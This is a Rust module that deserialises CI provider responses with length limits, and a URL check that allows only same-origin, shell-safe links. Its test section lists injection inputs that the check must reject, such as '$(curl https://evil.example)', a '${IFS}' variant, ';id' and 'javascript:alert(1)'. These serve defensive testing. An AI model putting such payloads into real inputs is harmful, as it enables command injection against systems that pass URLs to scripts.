//! Deserialises responses. Fields that decide something (ids, states, conclusions) are strict; all others are lenient:
//! an unreadable value counts as missing. Every string has a maximum length.

use std::fmt;

use serde::de::{DeserializeOwned, Error as _, Visitor};
use serde::{Deserialize, Deserializer};
use serde_json::value::RawValue;
use url::Url;

use crate::text::untrusted::cut;

/// In characters. Longest job name in GitLab's database, and longest that GitHub accepts.
const MAX_NAME: usize = 255;
/// In characters. Runs are named after commit messages, and a marker may follow one.
const MAX_TITLE: usize = 1_000;
/// In characters. Browsers and proxies reliably accept this length.
const MAX_URL: usize = 2_000;
/// Maximum number of names that a message lists.
const MAX_LISTED: usize = 30;

/// A field that decides nothing: an unreadable value counts as missing. Use with `#[serde(default)]`.
pub(super) fn lenient<'de, D, T>(deserializer: D) -> Result<T, D::Error>
where
    D: Deserializer<'de>,
    T: DeserializeOwned + Default,
{
    let raw = <&RawValue>::deserialize(deserializer)?;
    Ok(serde_json::from_str(raw.get()).unwrap_or_default())
}

/// A lenient name, truncated to [`MAX_NAME`].
pub(super) fn name<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    let Truncated::<MAX_NAME>(name) = lenient(deserializer)?;
    Ok(Some(name).filter(|name| !name.is_empty()))
}

/// A lenient title, truncated to [`MAX_TITLE`].
pub(super) fn title<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    let Truncated::<MAX_TITLE>(title) = lenient(deserializer)?;
    Ok(title)
}

/// A lenient string that is compared or sent, such as a branch. One longer than [`MAX_TITLE`] counts as missing.
pub(super) fn exact<'de, D: Deserializer<'de>>(
    deserializer: D,
) -> Result<Option<String>, D::Error> {
    let Whole::<MAX_TITLE>(text) = lenient(deserializer)?;
    Ok(text)
}

/// A lenient URL. One longer than [`MAX_URL`] counts as missing.
pub(super) fn url<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
    let Whole::<MAX_URL>(url) = lenient(deserializer)?;
    Ok(url)
}

/// A provider's name for a state, or another short string without which the entry is useless. Strict.
pub(super) fn word<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    Truncated::<MAX_NAME>::deserialize(deserializer).map(|Truncated(word)| word)
}

/// A provider's name for a conclusion, which is missing until the run ends. Strict. Use with `#[serde(default)]`.
pub(super) fn maybe_word<'de, D: Deserializer<'de>>(
    deserializer: D,
) -> Result<Option<String>, D::Error> {
    let word = Option::<Truncated<MAX_NAME>>::deserialize(deserializer)?;
    Ok(word.map(|Truncated(word)| word))
}

/// An id of Bitbucket: a UUID in braces. Strict.
pub(super) fn uuid<'de, D: Deserializer<'de>>(deserializer: D) -> Result<String, D::Error> {
    let id = word(deserializer)?;
    if is_uuid(&id) {
        Ok(id)
    } else {
        Err(D::Error::custom("not a UUID in braces"))
    }
}

/// Whether it's a UUID in braces.
pub(super) fn is_uuid(text: &str) -> bool {
    let inner = text
        .strip_prefix('{')
        .and_then(|text| text.strip_suffix('}'));
    inner.is_some_and(|inner| {
        inner.split('-').map(str::len).eq([8, 4, 4, 4, 12])
            && inner
                .bytes()
                .all(|byte| byte == b'-' || byte.is_ascii_hexdigit())
    })
}

/// Returns the URL of a web page if it is on that server. Outputs are used in scripts, so only characters without a
/// meaning in a shell are allowed.
pub(super) fn page_at(url: Option<&str>, web: &Url) -> Option<String> {
    let page = Url::parse(url?).ok()?;
    // Percent-encoding may have made it longer.
    let is_short = page.as_str().len() <= MAX_URL;
    let is_plain = page
        .as_str()
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || b"-._~/:%+[]".contains(&byte));
    (page.origin() == web.origin() && is_short && is_plain).then(|| page.into())
}

/// Joins names for a message, at most [`MAX_LISTED`].
pub(super) fn listed<T: AsRef<str>>(names: &[T], separator: &str) -> String {
    let shown = names.iter().take(MAX_LISTED).map(AsRef::as_ref);
    let listed = shown.collect::<Vec<_>>().join(separator);
    match names.len().saturating_sub(MAX_LISTED) {
        0 => listed,
        more => format!("{listed}{separator}{more} more"),
    }
}

/// A string, truncated to `MAX` characters and with [`CUT`](crate::text::untrusted::CUT) at its end if it was longer.
#[derive(Default)]
struct Truncated<const MAX: usize>(String);

impl<'de, const MAX: usize> Deserialize<'de> for Truncated<MAX> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        deserializer
            .deserialize_str(StringVisitor::<MAX>)
            .map(|(text, _)| Self(text))
    }
}

/// A string of at most `MAX` characters; `None` if it is longer.
#[derive(Default)]
struct Whole<const MAX: usize>(Option<String>);

impl<'de, const MAX: usize> Deserialize<'de> for Whole<MAX> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let (text, is_whole) = deserializer.deserialize_str(StringVisitor::<MAX>)?;
        Ok(Self(is_whole.then_some(text)))
    }
}

/// Reads the first `MAX` characters of a string, and whether that is all of it.
struct StringVisitor<const MAX: usize>;

impl<const MAX: usize> Visitor<'_> for StringVisitor<MAX> {
    type Value = (String, bool);

    fn expecting(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        formatter.write_str("a string")
    }

    fn visit_str<E: serde::de::Error>(self, text: &str) -> Result<Self::Value, E> {
        // `cut` marks the cut, so that the redactor hides part of a secret before it.
        let cut = cut(text, MAX);
        let is_whole = cut == text;
        Ok((cut, is_whole))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::providers::pages::List;
    use crate::testing::arbitrary;
    use chrono::{DateTime, Utc};
    use proptest::prelude::*;
    use serde_json::{Value, json};

    #[derive(Deserialize)]
    struct Entry {
        id: u64,
        #[serde(deserialize_with = "word")]
        status: String,
        #[serde(default, deserialize_with = "maybe_word")]
        conclusion: Option<String>,
        #[serde(default, deserialize_with = "lenient")]
        number: Option<u64>,
        #[serde(default, deserialize_with = "name")]
        name: Option<String>,
        #[serde(default, deserialize_with = "title")]
        title: String,
        #[serde(default, deserialize_with = "exact")]
        branch: Option<String>,
        #[serde(default, deserialize_with = "url")]
        url: Option<String>,
        #[serde(default, deserialize_with = "lenient")]
        at: Option<DateTime<Utc>>,
        #[serde(default, deserialize_with = "lenient")]
        inner: List<Box<Self>>,
    }

    fn read(value: &Value) -> Option<Entry> {
        serde_json::from_str(&value.to_string()).ok()
    }

    #[test]
    fn only_strict_fields_make_an_entry_unreadable() {
        for strict in [
            json!({}),
            json!({ "id": 1 }),
            json!({ "id": "1", "status": "queued" }),
            json!({ "id": 1.5, "status": "queued" }),
            json!({ "id": 1, "status": null }),
            json!({ "id": 1, "status": ["queued"] }),
            json!({ "id": 1, "status": "completed", "conclusion": 1 }),
        ] {
            assert!(read(&strict).is_none(), "{strict}");
        }
        let read = read(&json!({ "id": 1, "status": "queued", "conclusion": null })).unwrap();
        assert_eq!((read.id, read.status.as_str()), (1, "queued"));
        assert_eq!(read.conclusion, None);
    }

    #[test]
    fn long_strings_are_truncated_between_characters_or_left_out() {
        let long = "ä".repeat(5_000);
        let entry = json!({ "id": 1, "status": long, "name": long, "title": long, "branch": long, "url": long });
        let entry = read(&entry).unwrap();
        for (truncated, max) in [
            (entry.status, MAX_NAME),
            (entry.name.unwrap(), MAX_NAME),
            (entry.title, MAX_TITLE),
        ] {
            assert_eq!(truncated, format!("{}[…]", "ä".repeat(max)));
        }
        assert_eq!((entry.branch, entry.url), (None, None));
    }

    #[test]
    fn an_id_of_bitbucket_is_a_uuid_in_braces() {
        assert!(is_uuid("{3b9fd2b1-4a10-4c1c-8b3a-000000000000}"));
        for other in [
            "",
            "{}",
            "{..}",
            "3b9fd2b1-4a10-4c1c-8b3a-000000000000",
            "{3b9fd2b1-4a10-4c1c-8b3a-00000000000g}",
            "{3b9fd2b14a104c1c8b3a000000000000----}",
            "{3b9fd2b1-4a10-4c1c-8b3a-000000000000}\n",
        ] {
            assert!(!is_uuid(other), "{other:?}");
        }
    }

    #[test]
    fn only_pages_on_the_targets_web_server_are_accepted() {
        let web = Url::parse("https://git.example/gitlab").unwrap();
        let page = |url| page_at(Some(url), &web);
        assert_eq!(
            page("https://git.example/a/b").as_deref(),
            Some("https://git.example/a/b")
        );
        assert_eq!(
            page("https://GIT.example:443/a b/-/jobs/1").as_deref(),
            Some("https://git.example/a%20b/-/jobs/1")
        );
        let long = format!("https://git.example/{}", "ä".repeat(500));
        for other in [
            "",
            "$(curl https://evil.example)",
            "https://git.example/$(curl${IFS}evil.example)",
            "https://git.example/;id",
            "https://git.example/a?b",
            "javascript:alert(1)",
            "http://git.example/a",
            "https://git.example:444/a",
            "https://evil.example/a",
            "https://git.example@evil.example/a",
            "https://user:password@git.example/a",
            &long,
        ] {
            assert_eq!(page(other), None, "{other}");
        }
        assert_eq!(page_at(None, &web), None);
    }

    proptest! {
        #[test]
        fn lenient_fields_never_make_an_entry_unreadable(fields in prop::collection::vec(arbitrary::json(), 7)) {
            let mut entry = json!({ "id": 1, "status": "queued" });
            for (name, value) in ["number", "name", "title", "branch", "url", "at", "inner"].iter().zip(fields) {
                entry[name] = value;
            }
            let list: List<Entry> = serde_json::from_str(&json!([entry]).to_string()).unwrap();
            let entry = &list.entries[0];
            prop_assert!(entry.inner.entries.len() <= entry.inner.length);
            prop_assert!(entry.number.is_none() || entry.at.is_none() || entry.id == 1);
        }
    }
}
